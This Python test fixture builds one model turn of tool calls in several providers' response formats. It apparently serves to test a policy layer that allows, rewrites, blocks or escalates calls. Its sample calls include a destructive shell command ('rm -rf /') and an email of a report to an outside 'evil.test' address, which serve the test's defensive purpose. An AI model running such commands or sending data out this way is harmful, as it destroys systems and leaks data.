"""One recorded model turn, in each provider's wire format.

The turn proposes five calls: one allowed, one rewritten (row limit capped), one blocked (a
destructive shell command), one whose arguments are broken JSON, and one escalated (mail to an
outside address). `CALLS` is the neutral form; the builders give each provider's response.
"""

from __future__ import annotations

import json
from typing import Any

CALLS: list[tuple[str, str, str]] = [
    ("call_read", "fs.read", json.dumps({"path": "/srv/workspace/notes.md"})),
    ("call_query", "db.query", json.dumps({"sql": "select * from t", "limit": 500, "debug": True})),
    ("call_shell", "shell.run", json.dumps({"command": "rm -rf /"})),
    ("call_broken", "email.send", '{"to": ["bob@acme.test"], "subject": "hi", '),
    (
        "call_mail",
        "email.send",
        json.dumps({"to": ["eve@evil.test"], "subject": "report", "body": "see attached"}),
    ),
]

ALLOWED, REWRITTEN, BLOCKED, BROKEN, ESCALATED = (c[0] for c in CALLS)


def _decoded(raw: str) -> Any:
    """What a provider that sends decoded arguments would carry: a dict, or the raw text
    when it is not JSON (as an app holding a partially streamed tool input would)."""
    try:
        return json.loads(raw)
    except ValueError:
        return raw


def openai_chat() -> dict[str, Any]:
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1700000000,
        "model": "gpt-test",
        "choices": [
            {
                "index": 0,
                "finish_reason": "tool_calls",
                "message": {
                    "role": "assistant",
                    "content": None,
                    "tool_calls": [
                        {"id": i, "type": "function", "function": {"name": n, "arguments": a}}
                        for i, n, a in CALLS
                    ],
                },
            }
        ],
    }


def openai_responses() -> dict[str, Any]:
    output: list[dict[str, Any]] = [
        {"type": "reasoning", "id": "rs_1", "summary": []},
    ]
    output += [
        {
            "type": "function_call",
            "id": f"fc_{k}",
            "call_id": i,
            "name": n,
            "arguments": a,
            "status": "completed",
        }
        for k, (i, n, a) in enumerate(CALLS)
    ]
    output.append(
        {
            "type": "web_search_call",
            "id": "ws_1",
            "status": "completed",
            "action": {"type": "search", "query": "x"},
        }
    )
    return {
        "id": "resp_1",
        "object": "response",
        "created_at": 1700000000,
        "model": "gpt-test",
        "status": "completed",
        "parallel_tool_calls": True,
        "tool_choice": "auto",
        "tools": [],
        "output": output,
    }


def anthropic() -> dict[str, Any]:
    content: list[dict[str, Any]] = [{"type": "text", "text": "Let me look."}]
    content += [{"type": "tool_use", "id": i, "name": n, "input": _decoded(a)} for i, n, a in CALLS]
    return {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude-test",
        "stop_reason": "tool_use",
        "content": content,
    }


def gemini(with_ids: bool = True) -> dict[str, Any]:
    parts: list[dict[str, Any]] = [{"text": "Working on it."}]
    for i, n, a in CALLS:
        call: dict[str, Any] = {"name": n, "args": _decoded(a)}
        if with_ids:
            call["id"] = i
        parts.append({"functionCall": call})
    return {
        "candidates": [
            {"content": {"role": "model", "parts": parts}, "finishReason": "STOP", "index": 0}
        ]
    }
